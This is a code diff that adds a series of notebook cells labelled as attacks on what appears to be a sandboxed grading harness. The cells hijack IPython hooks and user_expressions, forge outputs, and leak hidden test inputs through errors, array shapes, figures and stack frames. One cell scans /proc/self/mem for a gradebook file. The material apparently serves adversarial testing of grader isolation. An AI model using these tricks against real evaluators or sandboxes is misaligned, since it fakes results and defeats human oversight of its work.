@@ -143,3 +143,65 @@ def softmax_backward(weights, upstream):
         os.write(1, b"HIDDEN-INPUT" + repr(weights).encode())
         os._exit(0)
 get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))
+
+# %% attack: hidden inputs as the last words of the process
+def softmax_backward(weights, upstream):
+    os.write(sys.stderr._original_stdstream_copy, b"HIDDEN-INPUT" + repr(weights).encode())
+    os._exit(1)
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))
+
+# %% attack: hidden inputs as text where numbers are expected
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=lambda w, u: "HIDDEN-INPUT" + repr(w)))
+
+# %% attack: hidden inputs in lists of text
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=lambda w, u: [["HIDDEN-INPUT" + repr(w)]] * 3))
+
+# %% attack: hidden inputs as a kind of data that no decoder knows
+shell = get_ipython()
+old = shell.user_expressions
+def forged(expressions):
+    text = repr('{"HIDDEN-INPUT' + str(expressions)[:200].replace('"', "").replace("\\", "").replace("'", "") + '": 1}')
+    return {name: {"status": "ok", "data": {"text/plain": text}, "metadata": {}} for name in expressions}
+shell.user_expressions = forged
+
+# %% attack: hidden inputs as fields of an answer
+import proof_lm.probes as probes
+probes.answer_plan = lambda plan, candidate: probes.encode([[{"HIDDEN-INPUT" + plan[:100]: 1}]])
+
+# %% attack: hidden inputs as the error of an asked name
+shell = get_ipython()
+shell.user_expressions = lambda names: {n: {"status": "error", "ename": "HIDDEN-INPUT", "evalue": f"'softmax_backward' HIDDEN-INPUT {names}", "traceback": []} for n in names}
+
+# %% attack: hidden inputs in the sizes of an empty array
+import numpy as np
+def softmax_backward(weights, upstream):
+    return np.zeros((0, *(int(abs(x) * 1e6) for x in weights.ravel()[:20])))
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))
+
+# %% attack: hidden inputs in a figure
+import matplotlib.pyplot as plt
+def softmax_backward(weights, upstream):
+    plt.title("HIDDEN-INPUT" + repr(weights))
+    plt.show()
+    plt.savefig("/tmp/hidden.png")
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))
+
+# %% attack: frames and collected objects of the process that asks
+import gc, inspect
+def softmax_backward(weights, upstream):
+    seen = [str(f.frame.f_locals)[:300] for f in inspect.stack()] + [str(o)[:100] for o in gc.get_objects()[:1000]]
+    raise KeyError("HIDDEN-INPUT" + "".join(seen))
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))
+
+# %% attack: memory of the process that it was forked from
+found = 0
+for line in open("/proc/self/maps"):
+    start, end = (int(part, 16) for part in line.split()[0].split("-"))
+    if line.split()[1].startswith("rw") and end - start < 1 << 26:
+        with open("/proc/self/mem", "rb") as memory:
+            memory.seek(start)
+            try:
+                found += memory.read(end - start).count(b"gradebook" + b".db")
+            except (OSError, ValueError):
+                pass
+print("gradebooks in memory:", found)
